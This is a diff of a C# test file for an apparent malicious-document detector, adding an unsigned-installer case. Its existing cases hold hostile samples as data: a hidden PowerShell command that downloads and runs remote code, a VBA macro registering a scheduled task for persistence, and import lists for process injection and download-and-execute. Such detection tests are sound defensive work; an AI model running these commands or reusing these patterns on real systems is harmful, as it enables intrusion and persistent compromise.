@@ -39,6 +39,7 @@ public sealed class DeliveryCases
         new(DocumentHeuristics.NamelessSource, Template("http://203.0.113.5/a.dotm"), Template("https://host.invalid/a.dotm"), Template("http://192.168.1.5/a.dotm"), Template("file:///C:\\a.dotm")),
         new(DocumentHeuristics.HiddenCommand, Stored("cmd /c powershell -w hidden -c iex(irm http://192.0.2.1/a)"), Stored("Dear Sir or Madam"), Stored("cmd"), new("a.docx", OoxmlBuilder.Word().Part("word/settings.xml", Variables("cmd /c powershell -w hidden -c iex(irm http://192.0.2.1/a)")).Build())),
         new(DocumentHeuristics.MacroPersistence, Macro("Set s = CreateObject(\"Schedule.Service\")\ns.GetFolder(\"\\\").RegisterTaskDefinition \"a\", t, 6, , , 3"), Macro("Application.OnTime Now + 1, \"Refresh\""), Macro("Set s = CreateObject(\"Schedule.Service\")\nMsgBox s.Connected"), Macro("x = RegRead(\"HKCU\\Software\\Firm\")")),
+        new(DocumentHeuristics.InstallerUnsigned, Installer(4), Installer(3 << 20), new("a.doc", new OleFileBuilder().Stream("WordDocument", new byte[600]).Build()), new("a.msi", "not an installer at all")),
         new(DocumentHeuristics.PdfPictureLink, Picture("0 0 600 800", ""), Picture("10 10 100 40", ""), Picture("0 0 600 800", "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"), new("a.pdf", PdfBuilder.Document())),
         new(ExecutableHeuristics.PeInjectsDownload, Imports("HttpSendRequestA", "VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread"), Imports("HttpSendRequestA"), Imports("VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread"), Imports("HttpSendRequestA", "VirtualAllocEx", "WriteProcessMemory")),
         new(ExecutableHeuristics.PeAddInDownload, new("a.xll", new PeBuilder().Exporting("a.xll", "xlAutoOpen").Importing("URLMON.dll", "URLDownloadToFileA").Importing("KERNEL32.dll", "WinExec").Build()),
@@ -73,6 +74,15 @@ public sealed class DeliveryCases
         $"<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:docVars><w:docVar w:name=\"x\" w:val=\"{value}\"/></w:docVars></w:settings>";
 
     private static SampleFile Stored(string value) => new("a.docm", OoxmlBuilder.Word().Part("word/settings.xml", Variables(value)).WithMacros(new VbaProjectBuilder().Module("M", "Sub A()\nEnd Sub\n").Build()).Build());
+
+    private static SampleFile Installer(int length)
+    {
+        using var folder = new TemporaryFolder();
+        var content = new byte[length];
+        new Random(5).NextBytes(content);
+        folder.Write("inner.bin", content);
+        return new("a.msi", MsiBuilder.WithWixl(folder.Path));
+    }
 
     private static SampleFile Macro(string body) => new("a.docm", OoxmlBuilder.Word().WithMacros(new VbaProjectBuilder().Module("M", $"Sub A()\n{body}\nEnd Sub\n").Build()).Build());
 
